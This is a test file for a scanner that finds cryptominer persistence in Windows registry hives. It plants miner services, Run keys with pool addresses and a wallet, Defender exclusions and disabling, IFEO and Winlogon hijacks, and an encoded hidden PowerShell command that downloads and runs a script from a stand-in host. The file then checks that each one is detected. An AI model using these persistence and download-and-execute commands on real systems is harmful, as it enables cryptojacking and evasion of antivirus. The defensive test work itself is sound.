/**
 * The Windows registry checks (services, autostart keys, Defender tampering) on
 * directory targets laid out as a Windows root. The clean root is real where public
 * hives exist: the SYSTEM hive Windows 7 wrote (its ~400 services and drivers) and a
 * real NTUSER.DAT; its SOFTWARE hive is built with hivexregedit --merge from the keys a
 * stock Windows server has (Run entries, Winlogon, IFEO, AppInit, Defender, ProfileList).
 * The infected roots plant, with hivexregedit --merge into copies of the same hives, a
 * miner service, Run keys starting XMRig with a pool, Defender exclusions, IFEO
 * debuggers and Winlogon hijacks, in variations of names, places, wording and letter
 * case of the Windows folders; each must be found at its severity, with the hive, key
 * and value named and a remediation the operator can run, and nothing else medium or
 * above. A damaged hive and a dirty one whose log cannot be replayed end in typed
 * errors, the scan going on; a dirty one with new-format logs is replayed and read.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chmod, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { mediumOrAbove, unfilledTemplates } from '../helpers/findings.js';
import { HAVE_SAMPLES, SAMPLES, mergeReg, sampleFile } from './registry-samples.js';
import { ADMIN_SID, NT, RUN, STOCK_SOFTWARE, dw, expand, regText, sz, type RegKeys } from './reg-text.js';
import { windowsServicesCheck } from '../../src/checks/windows/services.js';
import { windowsAutostartCheck } from '../../src/checks/windows/autostart.js';
import { windowsDefenderCheck } from '../../src/checks/windows/defender.js';
import type { Finding } from '../../src/model/finding.js';

const CHECKS = [windowsServicesCheck, windowsAutostartCheck, windowsDefenderCheck];
const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

interface Layout {
  /** Folder names as the root spells them. */
  config: string;
  users: string;
  /** The SYSTEM hive's file name. */
  system: string;
}

describe.skipIf(!HAVE_SAMPLES)('Windows registry checks', () => {
  let scratch: string;
  let system: string;
  let ntuser: string;
  let software: string;

  /** A Windows root: the stock hives, plus what is merged into each. */
  async function makeRoot(name: string, layout: Layout, plant: { system?: RegKeys; software?: RegKeys; users?: Record<string, RegKeys> } = {}): Promise<string> {
    const root = path.join(scratch, name);
    const config = path.join(root, layout.config);
    await mkdir(config, { recursive: true });
    const place = async (from: string, to: string, merge?: RegKeys) => {
      await mkdir(path.dirname(to), { recursive: true });
      await copyFile(from, to);
      await chmod(to, 0o644);
      if (merge) await mergeReg(to, regText(merge));
    };
    await place(system, path.join(config, layout.system), plant.system);
    await place(software, path.join(config, 'SOFTWARE'), plant.software);
    await place(ntuser, path.join(root, layout.users, 'Administrator', 'NTUSER.DAT'), plant.users?.Administrator);
    for (const [user, keys] of Object.entries(plant.users ?? {})) {
      if (user !== 'Administrator') await place(ntuser, path.join(root, layout.users, user, 'NTUSER.DAT'), keys);
    }
    return root;
  }

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-winreg-');
    system = await sampleFile('regipy/SYSTEM', scratch);
    ntuser = await sampleFile('regipy/NTUSER.DAT', scratch);
    software = path.join(scratch, 'SOFTWARE.stock');
    await copyFile(path.join(SAMPLES, 'hives/hivex/minimal'), software);
    await chmod(software, 0o644);
    await mergeReg(software, regText(STOCK_SOFTWARE));
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  const shown = (f: Finding) => `${f.severity} ${f.rule} ${f.path} ${f.evidence.slice(0, 160)}`;

  /** A finding of the rule whose evidence names the value (case-insensitively: the Windows 7 SYSTEM hive spells "services"), at that severity, with no line. */
  function expectFound(findings: Finding[], severity: string, rule: string, evidence: string): void {
    const hits = findings.filter((f) => f.rule === rule && f.evidence.toLowerCase().includes(evidence.toLowerCase()));
    expect(hits.map(shown), `${rule} on ${evidence} among\n${findings.map(shown).join('\n')}`).not.toEqual([]);
    expect(hits[0]!.severity).toBe(severity);
    expect(hits[0]!.line).toBeUndefined();
    expect(unfilledTemplates(hits)).toEqual([]);
  }

  it('raises nothing medium or above on a stock Windows root (real SYSTEM and NTUSER.DAT hives)', async () => {
    const root = await makeRoot('clean', { config: 'Windows/System32/config', users: 'Users', system: 'SYSTEM' });
    const result = await scanDirectory(root, CHECKS);
    expect(result.errors).toEqual([]);
    expect(result.examined.map((e) => e.path).sort()).toEqual(['/Users/Administrator/NTUSER.DAT', '/Windows/System32/config/SOFTWARE', '/Windows/System32/config/SYSTEM']);
    expect(mediumOrAbove(result.findings).map(shown)).toEqual([]);
  });

  it('raises nothing medium or above on a Windows 10 SYSTEM hive replayed from its logs and real profiles with Run entries', async () => {
    const root = path.join(scratch, 'clean-win10');
    const config = path.join(root, 'Windows/System32/config');
    await mkdir(config, { recursive: true });
    for (const [from, to] of [['regipy/SYSTEM_B', 'SYSTEM'], ['regipy/SYSTEM_B.LOG1', 'SYSTEM.LOG1'], ['regipy/SYSTEM_B.LOG2', 'SYSTEM.LOG2']]) {
      await copyFile(await sampleFile(from!, scratch), path.join(config, to!));
    }
    await copyFile(software, path.join(config, 'SOFTWARE'));
    // Google Update and Skype (Windows 7), ctfmon (XP), OneDrive-era Windows 10 profile.
    for (const [user, from] of [['nfury', 'plaso/NTUSER-WIN7.DAT'], ['joe', 'plaso/NTUSER-XP.DAT'], ['tony', 'regipy/transactions_NTUSER.DAT']]) {
      await mkdir(path.join(root, 'Users', user!), { recursive: true });
      await copyFile(await sampleFile(from!, scratch), path.join(root, 'Users', user!, 'NTUSER.DAT'));
    }
    const result = await scanDirectory(root, CHECKS);
    expect(result.errors).toEqual([]);
    expect(result.examined.length).toBe(5);
    expect(mediumOrAbove(result.findings).map(shown)).toEqual([]);
  });

  describe('planted persistence', () => {
    let findings: Finding[];
    let errors: unknown[];
    const planted = {
      system: {
        // A miner as a service, from ProgramData, with its pool and wallet in the arguments.
        'ControlSet001\\Services\\WinSvcHost': {
          ImagePath: expand(`"C:\\ProgramData\\WinSvc\\svchost.exe" -o pool.supportxmr.com:443 -u ${WALLET} -k --donate-level 1`),
          Start: dw(2),
          ObjectName: sz('LocalSystem'),
          Type: dw(16),
          DisplayName: sz('Windows Service Host'),
        },
        // Wrapped by nssm: the program and its arguments are Parameters values.
        'ControlSet001\\Services\\MsUpdater': { ImagePath: expand('C:\\ProgramData\\nssm\\nssm.exe'), Start: dw(2) },
        'ControlSet001\\Services\\MsUpdater\\Parameters': { Application: sz('C:\\Users\\Public\\Libraries\\xmrig.exe'), AppParameters: sz('-c config.json --cpu-max-threads-hint=50') },
        // An svchost service whose DLL sits in a temporary folder.
        'ControlSet001\\Services\\NetSvcHelper': { ImagePath: expand('%SystemRoot%\\System32\\svchost.exe -k netsvcs -p'), Start: dw(2) },
        'ControlSet001\\Services\\NetSvcHelper\\Parameters': { ServiceDll: expand('C:\\Windows\\Temp\\nshelper.dll') },
        // Defender's service disabled.
        'ControlSet001\\Services\\WinDefend': { Start: dw(4), ImagePath: sz('"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.2301.6-0\\MsMpEng.exe"') },
        // A control set that is not the current one is not what runs.
        'ControlSet002\\Services\\NotCurrent': { ImagePath: sz('C:\\Users\\Public\\xmrig.exe'), Start: dw(2) },
      },
      software: {
        [RUN]: { Updater: sz(`C:\\ProgramData\\x\\xmrig.exe -o gulf.moneroocean.stream:10128 -u ${WALLET} --donate-level=1`) },
        [`Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce`]: { '': sz('cmd /c start /b C:\\$Recycle.Bin\\S-1-5-18\\msupdate.exe --algo rx/0 --url stratum+tcp://45.9.148.21:3333') },
        'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'C:\\ProgramData\\x': dw(0), 'D:\\SQLData': dw(0) },
        'Policies\\Microsoft\\Windows Defender\\Exclusions\\Processes': { 'xmrig.exe': sz('0') },
        'Microsoft\\Windows Defender\\Exclusions\\Extensions': { '.exe': dw(0) },
        'Policies\\Microsoft\\Windows Defender\\Real-Time Protection': { DisableRealtimeMonitoring: dw(1) },
        [`${NT}\\Image File Execution Options\\MsMpEng.exe`]: { Debugger: sz('C:\\Windows\\System32\\systray.exe') },
        [`${NT}\\Image File Execution Options\\Taskmgr.exe`]: { Debugger: sz('"C:\\ProgramData\\svc\\hide.exe"') },
        [`${NT}\\Winlogon`]: { Userinit: sz('C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\svc\\svc.exe') },
      },
      users: {
        Administrator: {
          'Software\\Microsoft\\Windows\\CurrentVersion\\Run': {
            OneDriveSync: sz(
              `powershell.exe -NoP -W Hidden -enc ${Buffer.from("iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1'); & C:\\Users\\Administrator\\AppData\\Roaming\\rig.exe -o pool.minexmr.com:4444", 'utf16le').toString('base64')}`,
            ),
          },
        },
        bob: { 'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon': { Shell: sz('explorer.exe, C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe') } },
      },
    };

    beforeAll(async () => {
      // Windows folders in other letter cases than Windows writes them.
      const root = await makeRoot('infected', { config: 'WINDOWS/system32/Config', users: 'users', system: 'system' }, planted);
      const result = await scanDirectory(root, CHECKS);
      findings = result.findings;
      errors = result.errors;
    });

    // The Windows 7 SYSTEM hive spells the key "services": evidence is compared case-insensitively.
    const find = (rule: string, evidence: string) => findings.filter((f) => f.rule === rule && f.evidence.toLowerCase().includes(evidence.toLowerCase()));

    it('reads every hive without error, with every template filled', () => {
      expect(errors).toEqual([]);
      expect(unfilledTemplates(findings).map(shown)).toEqual([]);
    });

    it.each([
      ['high', 'command.miner', 'HKLM\\SYSTEM\\ControlSet001\\Services\\WinSvcHost\\ImagePath = "C:\\ProgramData\\WinSvc\\svchost.exe" -o pool.supportxmr.com:443'],
      ['medium', 'windows-registry.program-in-writable-folder', 'Services\\WinSvcHost\\ImagePath'],
      ['high', 'windows-registry.miner-program', 'Services\\MsUpdater\\Parameters\\Application = C:\\Users\\Public\\Libraries\\xmrig.exe -c config.json'],
      ['high', 'windows-registry.program-in-temp', 'Services\\MsUpdater\\Parameters\\Application'],
      ['high', 'command.miner', 'Services\\MsUpdater\\Parameters\\Application'],
      ['high', 'windows-registry.program-in-temp', 'Services\\NetSvcHelper\\Parameters\\ServiceDll = C:\\Windows\\Temp\\nshelper.dll'],
      ['high', 'windows-defender.service-disabled', 'HKLM\\SYSTEM\\ControlSet001\\Services\\WinDefend\\Start = 4'],
      ['high', 'command.miner', `HKLM\\SOFTWARE\\${RUN}\\Updater = C:\\ProgramData\\x\\xmrig.exe -o gulf.moneroocean.stream:10128`],
      ['high', 'windows-registry.miner-program', `HKLM\\SOFTWARE\\${RUN}\\Updater`],
      ['high', 'windows-registry.program-in-temp', 'HKLM\\SOFTWARE\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\(Default) = cmd /c start /b C:\\$Recycle.Bin'],
      ['high', 'command.miner', 'RunOnce\\(Default)'],
      ['high', 'windows-defender.exclusion-writable-place', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\x = 0'],
      ['low', 'windows-defender.exclusion', 'Exclusions\\Paths\\D:\\SQLData'],
      ['high', 'windows-defender.exclusion-miner', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Processes\\xmrig.exe'],
      ['high', 'windows-defender.exclusion-executable-extension', 'Exclusions\\Extensions\\.exe'],
      ['high', 'windows-defender.protection-disabled', 'Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring = 1'],
      ['high', 'windows-registry.ifeo-debugger', 'Image File Execution Options\\MsMpEng.exe\\Debugger = C:\\Windows\\System32\\systray.exe'],
      ['high', 'windows-registry.ifeo-debugger', 'Image File Execution Options\\Taskmgr.exe\\Debugger'],
      ['medium', 'windows-registry.program-in-writable-folder', 'Image File Execution Options\\Taskmgr.exe\\Debugger'],
      ['high', 'windows-registry.winlogon-userinit', `HKLM\\SOFTWARE\\${NT}\\Winlogon\\Userinit = C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\svc\\svc.exe`],
      ['high', 'windows-registry.encoded-powershell', 'HKU\\Administrator (C:\\users\\Administrator\\NTUSER.DAT)\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync'],
      ['medium', 'windows-registry.hidden-powershell', 'Run\\OneDriveSync'],
      ['high', 'command.miner', 'OneDriveSync: base64-decoded'],
      ['high', 'windows-registry.winlogon-shell', 'HKU\\bob (C:\\users\\bob\\NTUSER.DAT)\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell = explorer.exe, C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe'],
      ['high', 'windows-registry.program-in-temp', 'Winlogon\\Shell'],
    ])('finds %s %s: %s', (severity, rule, evidence) => expectFound(findings, severity, rule, evidence));

    it('raises nothing else medium or above, and nothing from a control set that is not current', () => {
      const expected = new Set(['WinSvcHost', 'MsUpdater', 'NetSvcHelper', 'WinDefend', 'Updater', 'RunOnce', 'Exclusions', 'Real-Time Protection', 'MsMpEng.exe', 'Taskmgr.exe', 'Userinit', 'OneDriveSync', 'Winlogon\\Shell']);
      const other = mediumOrAbove(findings).filter((f) => ![...expected].some((e) => f.evidence.toLowerCase().includes(e.toLowerCase())));
      expect(other.map(shown)).toEqual([]);
      expect(findings.filter((f) => f.evidence.includes('NotCurrent'))).toEqual([]);
    });

    it('names the hive as the path and gives remediation commands for Windows', () => {
      const service = find('command.miner', 'WinSvcHost')[0]!;
      expect(service.path).toBe('/WINDOWS/system32/Config/system');
      expect(service.message).toContain('HKLM\\SYSTEM\\ControlSet001\\services\\WinSvcHost\\ImagePath');
      expect(service.message).toContain('service WinSvcHost, automatic start, runs as LocalSystem');
      expect(service.remediation).toContain('sc.exe stop "WinSvcHost"\nsc.exe delete "WinSvcHost"');
      expect(service.remediation).toContain("Remove-Item -Force -LiteralPath 'C:\\ProgramData\\WinSvc\\svchost.exe'");
      expect(service.indicators?.pools).toContain('pool.supportxmr.com:443');
      const run = find('command.miner', 'Run\\Updater')[0]!;
      expect(run.path).toBe('/WINDOWS/system32/Config/SOFTWARE');
      expect(run.remediation).toContain(`reg.exe delete "HKLM\\SOFTWARE\\${RUN}" /v "Updater" /f`);
      const exclusion = find('windows-defender.exclusion-writable-place', 'ProgramData\\x')[0]!;
      expect(exclusion.remediation).toContain("Remove-MpPreference -ExclusionPath 'C:\\ProgramData\\x'");
      const policy = find('windows-defender.exclusion-miner', 'xmrig.exe')[0]!;
      expect(policy.remediation).toContain('reg.exe delete "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Processes" /v "xmrig.exe" /f');
      const userinit = find('windows-registry.winlogon-userinit', 'Userinit')[0]!;
      expect(userinit.remediation).toContain('reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /t REG_SZ /d "C:\\Windows\\system32\\userinit.exe," /f');
      const user = find('windows-registry.encoded-powershell', 'OneDriveSync')[0]!;
      expect(user.path).toBe('/users/Administrator/NTUSER.DAT');
      expect(user.remediation).toContain(`reg.exe delete "HKU\\${ADMIN_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "OneDriveSync" /f`);
    });
  });

  describe('planted persistence, other names, places and wording', () => {
    let findings: Finding[];
    beforeAll(async () => {
      const root = await makeRoot('variants', { config: 'windows/SYSTEM32/config', users: 'Users', system: 'SYSTEM' }, {
        system: {
          // Unquoted, with a space in the folder name, started by cmd.exe.
          'ControlSet001\\Services\\AudioSrvHelper': { ImagePath: expand(`cmd.exe /c start "" "C:\\Users\\Public\\Videos\\audio host.exe" --url=pool.hashvault.pro:443 --user=${WALLET}`), Start: dw(2), ObjectName: sz('LocalSystem') },
          // The WinRing0 driver a miner loads, from its own folder.
          'ControlSet001\\Services\\WinRing0_1_2_0': { ImagePath: expand('\\??\\C:\\ProgramData\\Intel\\WinRing0x64.sys'), Start: dw(3), Type: dw(1) },
        },
        software: {
          [`Wow6432Node\\${NT}\\Image File Execution Options\\MRT.exe`]: { Debugger: sz('cmd.exe /c exit') },
          [`${NT}\\SilentProcessExit\\notepad.exe`]: { MonitorProcess: sz('C:\\Windows\\Temp\\mon.exe'), ReportingMode: dw(1) },
          [`${NT}\\Windows`]: { AppInit_DLLs: sz('C:\\ProgramData\\hook.dll'), LoadAppInit_DLLs: dw(1) },
          'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'C:\\': dw(0), '%ProgramData%\\cache': dw(0), 'C:\\Users\\Public\\Downloads': dw(0) },
          'Policies\\Microsoft\\Windows Defender': { DisableAntiSpyware: dw(1) },
          'Microsoft\\Windows Defender\\Spynet': { SpynetReporting: dw(0) },
          [`${RUN}Once`]: { cleanup: expand('%TEMP%\\setup\\svchost.exe -o 185.165.171.78:5555 -u x -p x -k') },
        },
        users: {
          Administrator: {
            'Software\\Microsoft\\Windows\\CurrentVersion\\Run': { Teams: expand('%APPDATA%\\msedge.exe'), ms: sz(`pwsh -WindowStyle Hidden -ec ${Buffer.from('Start-Process $env:TEMP\\\\nanominer.exe', 'utf16le').toString('base64')}`) },
            'Software\\Microsoft\\Windows NT\\CurrentVersion\\Windows': { Load: sz('C:\\Users\\Administrator\\AppData\\Roaming\\l.exe') },
          },
        },
      });
      const result = await scanDirectory(root, CHECKS);
      expect(result.errors).toEqual([]);
      findings = result.findings;
    });

    it.each([
      ['high', 'windows-registry.program-in-temp', 'Services\\AudioSrvHelper\\ImagePath'],
      ['high', 'command.miner', 'Services\\AudioSrvHelper\\ImagePath'],
      ['medium', 'windows-registry.winring0-driver', 'Services\\WinRing0_1_2_0\\ImagePath'],
      ['high', 'windows-registry.ifeo-debugger', 'Wow6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\MRT.exe\\Debugger = cmd.exe /c exit'],
      ['high', 'windows-registry.silent-process-exit-monitor', 'SilentProcessExit\\notepad.exe\\MonitorProcess'],
      ['high', 'windows-registry.appinit-dlls', 'AppInit_DLLs = C:\\ProgramData\\hook.dll'],
      ['high', 'windows-defender.exclusion-writable-place', 'Exclusions\\Paths\\C:\\ = 0'],
      ['high', 'windows-defender.exclusion-writable-place', 'Exclusions\\Paths\\%ProgramData%\\cache'],
      ['high', 'windows-defender.exclusion-writable-place', 'Exclusions\\Paths\\C:\\Users\\Public\\Downloads'],
      ['high', 'windows-defender.protection-disabled', 'Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware = 1'],
      ['medium', 'windows-defender.cloud-reporting-off', 'Spynet\\SpynetReporting = 0'],
      ['high', 'windows-registry.program-in-temp', 'RunOnce\\cleanup = %TEMP%\\setup\\svchost.exe'],
      ['medium', 'windows-registry.program-in-writable-folder', 'Run\\Teams = %APPDATA%\\msedge.exe'],
      ['high', 'windows-registry.encoded-powershell', 'Run\\ms = pwsh -WindowStyle Hidden -ec'],
      ['high', 'windows-registry.miner-program', 'Run\\ms: base64-decoded: Start-Process'],
      ['medium', 'windows-registry.user-load', 'Windows\\Load = C:\\Users\\Administrator\\AppData\\Roaming\\l.exe'],
    ])('finds %s %s: %s', (severity, rule, evidence) => expectFound(findings, severity, rule, evidence));
  });

  it('reports a damaged hive and a dirty hive with logs as errors and reads the others', async () => {
    const root = await makeRoot('damaged', { config: 'Windows/System32/config', users: 'Users', system: 'SYSTEM' }, {
      software: {
        [RUN]: { x: sz('C:\\Users\\Public\\x.exe') },
        // More values than a check reads from one key: the rest is a limit error, not silence.
        [`${RUN}Once`]: Object.fromEntries(Array.from({ length: 4100 }, (_, i) => [`v${i}`, sz('C:\\Windows\\System32\\cmd.exe')])),
      },
    });
    await mkdir(path.join(root, 'Users/broken'), { recursive: true });
    await copyFile(await sampleFile('yarp/GarbageHive', scratch), path.join(root, 'Users/broken/NTUSER.DAT'));
    // Dirty with new-format logs: replayed, read as Windows would load it, no error.
    const replayed = path.join(root, 'Users/replayed');
    await mkdir(replayed, { recursive: true });
    for (const [from, to] of [['transactions_NTUSER.DAT', 'NTUSER.DAT'], ['transactions_ntuser.dat.log1', 'ntuser.dat.LOG1'], ['transactions_ntuser.dat.log2', 'NTUSER.DAT.log2']]) {
      await writeFile(path.join(replayed, to), await readFile(await sampleFile(`regipy/${from}`, scratch)));
    }
    // Dirty with an old-format log: replayed too.
    const old = path.join(root, 'Users/old');
    await mkdir(old, { recursive: true });
    for (const [from, to] of [['OldDirtyHive', 'NTUSER.DAT'], ['OldDirtyHive.LOG1', 'NTUSER.DAT.LOG1']]) {
      await writeFile(path.join(old, to), await readFile(path.join(SAMPLES, 'hives/yarp/OldDirtyHive', from)));
    }
    // Dirty with a log whose entry fails its hash check: nothing applies, the newest changes may be missing.
    const bad = path.join(root, 'Users/badlog');
    await mkdir(bad, { recursive: true });
    await copyFile(path.join(SAMPLES, 'hives/yarp/NewDirtyHive1/NewDirtyHive'), path.join(bad, 'NTUSER.DAT'));
    const log = await readFile(path.join(SAMPLES, 'hives/yarp/NewDirtyHive1/NewDirtyHive.LOG2'));
    log[512 + 4096] = log[512 + 4096]! ^ 0xff;
    await writeFile(path.join(bad, 'NTUSER.DAT.LOG2'), log);
    const result = await scanDirectory(root, CHECKS);
    const errors = result.errors.map((e) => `${e.kind} ${e.path} ${e.structure}`);
    expect(errors.sort()).toEqual([
      'corrupt /Users/broken/NTUSER.DAT registry base block',
      'limit /Windows/System32/config/SOFTWARE registry key (nk)',
      'unsupported /Users/badlog/NTUSER.DAT registry transaction log',
    ]);
    expect(result.examined.map((e) => e.path)).toEqual(expect.arrayContaining(['/Users/replayed/NTUSER.DAT', '/Users/old/NTUSER.DAT']));
    expect(result.findings.some((f) => f.rule === 'windows-registry.program-in-temp' && f.evidence.includes('Run\\x'))).toBe(true);
  });
});
